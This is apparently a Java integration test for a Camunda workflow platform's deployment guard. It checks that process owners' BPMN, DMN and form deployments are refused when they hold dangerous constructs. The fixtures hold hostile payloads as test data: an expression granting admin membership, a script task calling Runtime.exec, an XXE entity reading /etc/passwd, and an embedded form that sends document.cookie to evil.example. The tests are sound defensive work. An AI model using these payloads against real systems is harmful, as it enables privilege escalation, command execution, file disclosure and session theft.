package org.invisiblebars.platform.deployment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.stream.Stream;
import org.camunda.bpm.engine.FormService;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.ParseException;
import org.camunda.bpm.engine.ProcessEngineException;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.repository.DecisionDefinition;
import org.camunda.bpm.engine.repository.Deployment;
import org.camunda.bpm.engine.repository.ProcessDefinition;
import org.camunda.bpm.engine.runtime.Job;
import org.camunda.bpm.engine.task.Task;
import org.invisiblebars.modelchange.domain.ModelChangeRepository;
import org.invisiblebars.sla.domain.SlaTarget;
import org.invisiblebars.support.BusinessKeys;
import org.invisiblebars.support.EngineTasks;
import org.invisiblebars.support.IntegrationTest;
import org.invisiblebars.support.ModelChangeReviews;
import org.invisiblebars.support.ModelerDeployment;
import org.invisiblebars.support.WebappSession;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;

/**
 * Process owners deploy from Camunda Modeler through the engine REST API (and could through the web
 * applications' engine API or, signed in, the Java API). What they deploy may read variables and
 * call the beans published for models, nothing else; administrators and the application's own
 * deployment are trusted. Every refusal is a 400 that names each offending element.
 */
class ProcessOwnerDeploymentIT extends IntegrationTest {

  @Autowired ModelChangeRepository changes;

  private static final String ADMIN_GROUP = "camunda-admin";

  /** Makes paula an administrator when it runs, as the job executor runs it: without a user. */
  private static final String MAKE_PAULA_ADMINISTRATOR =
      """
      <bpmn:serviceTask id="Task_MakeAdministrator"
          camunda:expression="${identityService.createMembership('paula','camunda-admin')}" />
      """;

  /** Runs a command of the operating system. */
  private static final String SCRIPT_TASK =
      """
      <bpmn:startEvent id="StartEvent_Started" />
      <bpmn:scriptTask id="Task_RunScript" scriptFormat="javascript">
        <bpmn:script>Runtime.getRuntime().exec('id')</bpmn:script>
      </bpmn:scriptTask>
      <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Task_RunScript" />
      """;

  /** A user task whose form, bound to the deployment, is {@link #NOTE_FORM}. */
  private static final String TAKE_NOTE =
      """
      <bpmn:startEvent id="StartEvent_Started" />
      <bpmn:userTask id="Task_TakeNote" camunda:candidateGroups="ngo-liaison"
          camunda:formRef="guard-note" camunda:formRefBinding="deployment" />
      <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Task_TakeNote" />
      """;

  private static final String NOTE_FORM =
      """
      {"id": "guard-note", "type": "default", "schemaVersion": 16,
       "components": [{"id": "Field_Note", "key": "note", "label": "Note", "type": "textfield"}]}
      """;

  @Autowired FormService formService;
  @Autowired IdentityService identityService;
  @Autowired ManagementService managementService;
  @Autowired RepositoryService repositoryService;
  @Autowired RuntimeService runtimeService;
  @Autowired TaskService taskService;
  @Autowired ObjectMapper json;

  /**
   * Deployments a test made; removed afterwards with their instances, so later tests see our
   * models.
   */
  private final List<String> deployments = new ArrayList<>();

  @AfterEach
  void removeWhatTheTestDeployed() {
    repositoryService.createDeploymentQuery().list().stream()
        .filter(d -> d.getName() != null && d.getName().startsWith("guard-"))
        .forEach(d -> deployments.add(d.getId()));
    deployments.stream().distinct().forEach(id -> repositoryService.deleteDeployment(id, true));
    if (isAdministrator("paula")) {
      identityService.deleteMembership("paula", ADMIN_GROUP);
    }
  }

  @Test
  void processOwnerCannotMakeHerselfAdministrator() throws Exception {
    ResponseEntity<String> response =
        ModelerDeployment.named("guard-elevation")
            .file(
                "elevation.bpmn",
                process(
                    "guard-elevation",
                    """
            <bpmn:startEvent id="StartEvent_LongAgo">
              <bpmn:timerEventDefinition id="TimerEventDefinition_LongAgo">
                <bpmn:timeDate xsi:type="bpmn:tFormalExpression">2020-01-01T00:00:00Z</bpmn:timeDate>
              </bpmn:timerEventDefinition>
            </bpmn:startEvent>
            """
                        + MAKE_PAULA_ADMINISTRATOR
                        + """
            <bpmn:endEvent id="EndEvent_Done" />
            <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_LongAgo" targetRef="Task_MakeAdministrator" />
            <bpmn:sequenceFlow id="SequenceFlow_2" sourceRef="Task_MakeAdministrator" targetRef="EndEvent_Done" />
            """))
            .deployAs(as("paula"));

    runDueJobsOf("guard-elevation");

    assertThat(isAdministrator("paula")).as("paula after the due jobs ran").isFalse();
    assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(offences(response))
        .anySatisfy(
            offence ->
                assertThat(offence)
                    .contains(
                        "elevation.bpmn",
                        "Task_MakeAdministrator",
                        "camunda:expression",
                        "identityService"));
    assertThat(
            repositoryService
                .createProcessDefinitionQuery()
                .processDefinitionKey("guard-elevation")
                .count())
        .isZero();
  }

  @Test
  void scriptTaskIsRefused() throws Exception {
    ResponseEntity<String> response =
        ModelerDeployment.named("guard-script")
            .file("script.bpmn", process("guard-script", SCRIPT_TASK))
            .deployAs(as("paula"));

    assertRefused(response, "script.bpmn", "Task_RunScript", "script");
  }

  @Test
  void javaClassesAreRefusedEachOneListed() throws Exception {
    ResponseEntity<String> response =
        ModelerDeployment.named("guard-class")
            .file(
                "class.bpmn",
                process(
                    "guard-class",
                    """
            <bpmn:startEvent id="StartEvent_Started" />
            <bpmn:serviceTask id="Task_RunClass" camunda:class="org.example.Evil" />
            <bpmn:userTask id="Task_Listened" camunda:candidateGroups="ngo-liaison">
              <bpmn:extensionElements>
                <camunda:taskListener class="org.example.EvilListener" event="create" />
              </bpmn:extensionElements>
            </bpmn:userTask>
            <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Task_RunClass" />
            <bpmn:sequenceFlow id="SequenceFlow_2" sourceRef="Task_RunClass" targetRef="Task_Listened" />
            """))
            .deployAs(as("paula"));

    assertRefused(response, "class.bpmn", "Task_RunClass", "camunda:class");
    assertThat(offences(response))
        .anySatisfy(offence -> assertThat(offence).contains("Task_Listened", "class"));
  }

  @Test
  void slaPolicyWhoseEntryCallsABeanIsRefused() throws Exception {
    String policy =
        withOutputEntry(
            "DecisionRule_Default_Target",
            " expressionLanguage=\"juel\"",
            "${identityService.createMembership('paula','camunda-admin')}");

    ResponseEntity<String> response =
        ModelerDeployment.named("guard-sla-policy")
            .file("sla-policy.dmn", policy)
            .deployAs(as("paula"));

    assertRefused(response, "sla-policy.dmn", "DecisionRule_Default_Target", "identityService");
    assertThat(isAdministrator("paula")).isFalse();
  }

  @Test
  void doctypeWithExternalEntityIsRefused() throws Exception {
    String model =
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE bpmn:definitions [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
        """
            + process(
                    "guard-entity",
                    """
            <bpmn:startEvent id="StartEvent_Started" name="&secret;" />
            """)
                .replaceFirst("<\\?xml[^>]*>\\s*", "");

    ResponseEntity<String> response =
        ModelerDeployment.named("guard-entity").file("entity.bpmn", model).deployAs(as("paula"));

    assertRefused(response, "entity.bpmn", null, "DOCTYPE");
  }

  @Test
  void embeddedFormsAreRefused() throws Exception {
    ResponseEntity<String> response =
        ModelerDeployment.named("guard-embedded")
            .file(
                "embedded.bpmn",
                process(
                    "guard-embedded",
                    """
            <bpmn:startEvent id="StartEvent_Started" />
            <bpmn:userTask id="Task_FillIn" camunda:candidateGroups="ngo-liaison"
                camunda:formKey="embedded:deployment:steal-session.html" />
            <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Task_FillIn" />
            """))
            .file(
                "steal-session.html",
                "<form><script>fetch('//evil.example/?c=' + document.cookie)</script></form>")
            .deployAs(as("paula"));

    assertRefused(response, "embedded.bpmn", "Task_FillIn", "camunda:formKey");
    assertThat(offences(response))
        .anySatisfy(offence -> assertThat(offence).contains("steal-session.html"));
  }

  @Test
  void aProcessWithoutTheFormItBindsToTheDeploymentIsRefusedNamingTheForm() throws Exception {
    ResponseEntity<String> response =
        ModelerDeployment.named("guard-form")
            .file("note.bpmn", process("guard-form", TAKE_NOTE))
            .deployAs(as("paula"));

    assertRefused(response, "note.bpmn", "Task_TakeNote", "guard-note");
    assertThat(offences(response)).singleElement().asString().contains("camunda:formRef");
    assertThat(repositoryService.createDeploymentQuery().deploymentName("guard-form").count())
        .isZero();
  }

  @Test
  void aProcessWithItsFormIsAccepted() throws Exception {
    ResponseEntity<String> response =
        ModelerDeployment.named("guard-form")
            .file("note.bpmn", process("guard-form", TAKE_NOTE))
            .file("take-note.form", NOTE_FORM)
            .deployAs(as("paula"));

    assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.OK);
    new ModelChangeReviews(new EngineTasks(this::as), changes)
        .approve(json.readTree(response.getBody()).get("id").asText(), "martha", false);
    String instance = runtimeService.startProcessInstanceByKey("guard-form").getId();
    Task note = taskService.createTaskQuery().processInstanceId(instance).singleResult();
    try (InputStream form = formService.getDeployedTaskForm(note.getId())) {
      assertThat(new String(form.readAllBytes(), StandardCharsets.UTF_8))
          .as("the form Tasklist shows")
          .contains("Field_Note");
    }
  }

  @Test
  void aDecisionThatIsNeitherDeployedNorInTheDeploymentIsRefused() throws Exception {
    ResponseEntity<String> response =
        ModelerDeployment.named("guard-decision")
            .file(
                "decide.bpmn",
                process(
                    "guard-decision",
                    """
            <bpmn:startEvent id="StartEvent_Started" />
            <bpmn:businessRuleTask id="Task_EvaluatePolicy" camunda:decisionRef="sla-policy"
                camunda:mapDecisionResult="singleResult" camunda:resultVariable="policy" />
            <bpmn:businessRuleTask id="Task_EvaluateUnknown" camunda:decisionRef="guard-unknown"
                camunda:mapDecisionResult="singleResult" camunda:resultVariable="unknown" />
            <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Task_EvaluatePolicy" />
            <bpmn:sequenceFlow id="SequenceFlow_2" sourceRef="Task_EvaluatePolicy" targetRef="Task_EvaluateUnknown" />
            """))
            .deployAs(as("paula"));

    assertRefused(response, "decide.bpmn", "Task_EvaluateUnknown", "guard-unknown");
    assertThat(offences(response))
        .as("sla-policy is deployed already")
        .singleElement()
        .asString()
        .contains("camunda:decisionRef");
  }

  @Test
  void anAdministratorsIncompleteDeploymentIsRefusedToo() throws Exception {
    ResponseEntity<String> response =
        ModelerDeployment.named("guard-form")
            .file("note.bpmn", process("guard-form", TAKE_NOTE))
            .deployAs(as("admin"));

    assertRefused(response, "note.bpmn", "Task_TakeNote", "guard-note");
  }

  @Test
  void missingFormsAndATaskWithoutHandlerAreListedInOneAnswer() throws Exception {
    String renamed =
        ModelerDeployment.text("processes/ngo-accreditation.bpmn")
            .replace("\"Task_VerifyFormalMandate\"", "\"Task_CheckTheMandate\"");

    ResponseEntity<String> response =
        ModelerDeployment.named("guard-incomplete")
            .file("ngo-accreditation.bpmn", renamed)
            .deployAs(as("paula"));

    assertRefused(response, "ngo-accreditation.bpmn", "Task_CheckTheMandate", "has no handler");
    assertThat(offences(response))
        .anySatisfy(o -> assertThat(o).contains("Task_CheckTheMandate", "verify-formal-mandate"))
        .anySatisfy(o -> assertThat(o).contains("Task_DecideAccreditation", "decide-accreditation"))
        .hasSize(1 + (int) renamed.lines().filter(l -> l.contains("camunda:formRef=")).count());
  }

  @Test
  void everyModelOfTheRepositoryPassesAsAProcessOwnersDeployment() throws Exception {
    ModelerDeployment all = ModelerDeployment.named("guard-repository-models");
    repositoryModels().forEach(all::repositoryFile);

    ResponseEntity<String> response = all.deployAs(as("paula"));

    assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.OK);
    String deploymentId = json.readTree(response.getBody()).get("id").asText();
    deployments.add(deploymentId);
    assertThat(repositoryService.createProcessDefinitionQuery().deploymentId(deploymentId).list())
        .extracting(ProcessDefinition::getKey)
        .containsExactlyInAnyOrder(
            "ngo-accreditation",
            "entry-authorisation",
            "report-review",
            "coordination-meeting",
            "agreed-action",
            "report-publication",
            "incident-review",
            "model-change",
            "organisation-registration",
            "representative-vetting");
    assertThat(repositoryService.createDecisionDefinitionQuery().deploymentId(deploymentId).list())
        .extracting(DecisionDefinition::getKey)
        .contains("sla-policy", "visit-risk", "search-protocol", "accreditation-criteria");
  }

  @Test
  void processOwnersChangeGoesLiveOnceApproved() throws Exception {
    String policy =
        withOutputEntry("DecisionRule_AccreditationTasks_Target", "", "&quot;P7D&quot;");
    String accreditation =
        ModelerDeployment.text("processes/ngo-accreditation.bpmn")
            .replace(
                "name=\"Check application completeness\"",
                "name=\"Check the application is complete\"");
    ModelerDeployment change =
        ModelerDeployment.named("guard-change")
            .file("sla-policy.dmn", policy)
            .file("ngo-accreditation.bpmn", accreditation);
    change.withRepositoryForms();

    ResponseEntity<String> response = change.deployAs(as("paula"));

    assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.OK);
    String deploymentId = json.readTree(response.getBody()).get("id").asText();
    deployments.add(deploymentId);
    String meanwhile = apply("Guard change held");
    assertThat(
            repositoryService
                .getProcessDefinition(
                    taskService
                        .createTaskQuery()
                        .processInstanceBusinessKey(BusinessKeys.of(meanwhile))
                        .singleResult()
                        .getProcessDefinitionId())
                .getDeploymentId())
        .as("held for review: the live version runs")
        .isNotEqualTo(deploymentId);
    new ModelChangeReviews(new EngineTasks(this::as), changes)
        .approve(deploymentId, "martha", false);
    String accreditationId = apply("Guard change check");
    Task check =
        taskService
            .createTaskQuery()
            .processInstanceBusinessKey(BusinessKeys.of(accreditationId))
            .singleResult();
    ProcessDefinition running =
        repositoryService.getProcessDefinition(check.getProcessDefinitionId());
    assertThat(running.getDeploymentId()).as("the new version runs").isEqualTo(deploymentId);
    assertThat(check.getName()).isEqualTo("Check the application is complete");
    assertThat(check.getDueDate().toInstant())
        .as("the changed target")
        .isEqualTo(
            SlaTarget.of("P7D", true, "P1D", "manager")
                .dueFrom(check.getCreateTime().toInstant(), ZoneId.of("UTC")));
    assertThat(taskService.getVariableLocal(check.getId(), "applicationSummary"))
        .as("the published task listener ran")
        .asString()
        .contains("Guard change check");
  }

  @Test
  void administratorsAreTrusted() throws Exception {
    ResponseEntity<String> response =
        ModelerDeployment.named("guard-admin")
            .file("admin.bpmn", process("guard-admin", SCRIPT_TASK + MAKE_PAULA_ADMINISTRATOR))
            .deployAs(as("admin"));

    assertThat(response.getStatusCode())
        .as("what paula may not deploy: " + response.getBody())
        .isEqualTo(HttpStatus.OK);
    assertThat(
            repositoryService
                .createProcessDefinitionQuery()
                .processDefinitionKey("guard-admin")
                .count())
        .isOne();
  }

  /**
   * A file that is no readable model is the deployer's mistake: 400 naming the file and what the
   * parser said (Camunda answered 500), for an administrator too, whose deployments are not checked
   * by the guard; nothing is deployed.
   */
  @Test
  void aFileThatIsNoReadableModelIsABadRequestForEveryDeployer() throws Exception {
    Map<String, String> unreadable =
        Map.of(
            "not-xml.bpmn", "this is not XML",
            "doctype.bpmn",
                "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n<x>&e;</x>",
            "not-xml.dmn", "neither is this",
            "no-inputs.dmn",
                """
            <?xml version="1.0" encoding="UTF-8"?>
            <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="x">
              <decision id="guard-unreadable"><decisionTable><output id="o" typeRef="string"/>
                <rule id="r"><outputEntry id="e"><text>"a"</text></outputEntry></rule></decisionTable></decision>
            </definitions>
            """,
            "not-json.form", "{\"components\": [");
    for (String deployer : List.of("admin", "paula")) {
      for (Map.Entry<String, String> file : unreadable.entrySet()) {
        ResponseEntity<String> response =
            ModelerDeployment.named("guard-unreadable")
                .file(file.getKey(), file.getValue())
                .deployAs(as(deployer));

        assertThat(response.getStatusCode())
            .as(deployer + " deploys " + file.getKey() + ": " + response.getBody())
            .isEqualTo(HttpStatus.BAD_REQUEST);
        assertThat(response.getBody())
            .contains(file.getKey())
            .doesNotContain("\tat ")
            .doesNotContain("root:");
      }
    }
    assertThat(repositoryService.createDeploymentQuery().deploymentName("guard-unreadable").count())
        .isZero();
  }

  @Test
  void modelsReachOnlyTheBeansPublishedForThem() throws Exception {
    // Deployed as the application deploys at start: no user, not checked.
    Deployment deployment =
        repositoryService
            .createDeployment()
            .name("guard-beans")
            .addString(
                "beans.bpmn",
                process(
                    "guard-beans",
                    """
            <bpmn:startEvent id="StartEvent_Started" />
            <bpmn:exclusiveGateway id="Gateway_Published" />
            <bpmn:serviceTask id="Task_CallUnpublished"
                camunda:expression="${identityService.createMembership('paula','camunda-admin')}" />
            <bpmn:endEvent id="EndEvent_NotPublished" />
            <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Gateway_Published" />
            <bpmn:sequenceFlow id="SequenceFlow_Published" sourceRef="Gateway_Published" targetRef="Task_CallUnpublished">
              <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${checkVisitScopeDelegate != null}</bpmn:conditionExpression>
            </bpmn:sequenceFlow>
            <bpmn:sequenceFlow id="SequenceFlow_NotPublished" sourceRef="Gateway_Published" targetRef="EndEvent_NotPublished">
              <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${checkVisitScopeDelegate == null}</bpmn:conditionExpression>
            </bpmn:sequenceFlow>
            """))
            .deploy();
    deployments.add(deployment.getId());

    assertThatThrownBy(() -> runtimeService.startProcessInstanceByKey("guard-beans"))
        .as("a published bean resolves, any other Spring bean does not")
        .isInstanceOf(ProcessEngineException.class)
        .hasMessageContaining("identityService");
    assertThat(isAdministrator("paula")).isFalse();
  }

  @Test
  void theJavaApiChecksASignedInProcessOwnerToo() {
    identityService.setAuthentication("paula", List.of("process-owner"));
    try {
      assertThatThrownBy(
              () ->
                  repositoryService
                      .createDeployment()
                      .name("guard-java-api")
                      .addString(
                          "java-api.bpmn",
                          process(
                              "guard-java-api",
                              """
              <bpmn:startEvent id="StartEvent_Started" />
              <bpmn:serviceTask id="Task_CallService" camunda:expression="${execution.getProcessEngineServices().getIdentityService()}" />
              <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Task_CallService" />
              """))
                      .deploy())
          .isInstanceOf(ParseException.class)
          .hasMessageContaining("Task_CallService");
    } finally {
      identityService.clearAuthentication();
    }
  }

  @Test
  void theWebApplicationsEngineApiRefusesTheSame() throws Exception {
    WebappSession session = new WebappSession(baseUrl());
    assertThat(session.login("paula", "demo", "tasklist")).isEqualTo(200);

    var response =
        session.postMultipart(
            "/camunda/api/engine/engine/default/deployment/create",
            Map.of("deployment-name", "guard-webapp", "deployment-source", "Camunda Modeler"),
            Map.of("webapp.bpmn", process("guard-webapp", MAKE_PAULA_ADMINISTRATOR)));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(
            json.readTree(response.body())
                .at("/details/webapp.bpmn/errors/0/mainElementId")
                .asText())
        .isEqualTo("Task_MakeAdministrator");
  }

  // ---------------------------------------------------------------------------------------------

  private void assertRefused(
      ResponseEntity<String> response, String resource, String elementId, String why)
      throws IOException {
    assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.BAD_REQUEST);
    JsonNode body = json.readTree(response.getBody());
    assertThat(body.get("type").asText()).isEqualTo("ParseException");
    assertThat(offences(response))
        .anySatisfy(
            offence -> {
              assertThat(offence).contains(resource, why);
              if (elementId != null) {
                assertThat(offence).contains(elementId);
              }
            });
    assertThat(body.get("message").asText()).contains(resource);
  }

  /** Each offence of a refused deployment as "resource | element | message". */
  private List<String> offences(ResponseEntity<String> response) throws IOException {
    List<String> offences = new ArrayList<>();
    JsonNode details = json.readTree(response.getBody()).path("details");
    details
        .fieldNames()
        .forEachRemaining(
            resource ->
                details
                    .get(resource)
                    .path("errors")
                    .forEach(
                        error ->
                            offences.add(
                                resource
                                    + " | "
                                    + error.path("mainElementId").asText()
                                    + " | "
                                    + error.path("message").asText())));
    return offences;
  }

  private boolean isAdministrator(String userId) {
    return identityService.createUserQuery().userId(userId).memberOfGroup(ADMIN_GROUP).count() > 0;
  }

  /** Runs the jobs of the process as the job executor would, waiting for those it took itself. */
  private void runDueJobsOf(String processKey) throws InterruptedException {
    Instant until = Instant.now().plus(Duration.ofSeconds(10));
    List<Job> jobs;
    while (!(jobs = managementService.createJobQuery().processDefinitionKey(processKey).list())
            .isEmpty()
        && Instant.now().isBefore(until)) {
      for (Job job : jobs) {
        try {
          managementService.executeJob(job.getId());
        } catch (ProcessEngineException takenOrFailed) {
          Thread.sleep(100);
        }
      }
    }
  }

  private String apply(String activity) throws IOException {
    String facility =
        json.readTree(as("john").getForObject("/api/v1/facilities", String.class))
            .get(0)
            .get("id")
            .asText();
    var body =
        Map.of(
            "mandateType",
            "NGO",
            "programmeType",
            "MONITORING",
            "proposedActivity",
            activity,
            "sustainabilityMonths",
            12,
            "facilityIds",
            List.of(facility),
            "representatives",
            List.of(Map.of("fullName", "Gus Guard")));
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.APPLICATION_JSON);
    ResponseEntity<String> created =
        as("john")
            .postForEntity("/api/v1/accreditations", new HttpEntity<>(body, headers), String.class);
    assertThat(created.getStatusCode()).as(created.getBody()).isEqualTo(HttpStatus.CREATED);
    return json.readTree(created.getBody()).get("id").asText();
  }

  /**
   * processes/sla-policy.dmn with one output entry changed: its attributes added and its text
   * replaced.
   */
  private static String withOutputEntry(String entryId, String attributes, String text) {
    String policy = ModelerDeployment.text("processes/sla-policy.dmn");
    String changed =
        policy.replaceFirst(
            "(<outputEntry id=\"" + entryId + "\")(>\\s*<text>)[^<]*(</text>)",
            "$1"
                + Matcher.quoteReplacement(attributes)
                + "$2"
                + Matcher.quoteReplacement(text)
                + "$3");
    assertThat(changed).as("the policy has the entry " + entryId).isNotEqualTo(policy);
    return changed;
  }

  /** The models and forms the application deploys at start, as repository paths. */
  private static Stream<String> repositoryModels() throws IOException {
    try (Stream<Path> processes = Files.list(Path.of("processes"));
        Stream<Path> forms = Files.list(Path.of("forms"))) {
      return Stream.concat(processes, forms)
          .map(Path::toString)
          .filter(path -> path.matches(".*\\.(bpmn|dmn|form)"))
          .sorted()
          .toList()
          .stream();
    }
  }

  /** A BPMN file with one executable process around the given elements. */
  static String process(String key, String elements) {
    return """
        <?xml version="1.0" encoding="UTF-8"?>
        <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
            xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
            xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
            id="Definitions_%s" targetNamespace="http://invisiblebars.org/test">
          <bpmn:process id="%s" isExecutable="true" camunda:historyTimeToLive="P1D">
        %s
          </bpmn:process>
        </bpmn:definitions>
        """
        .formatted(key, key, elements.indent(4));
  }
}
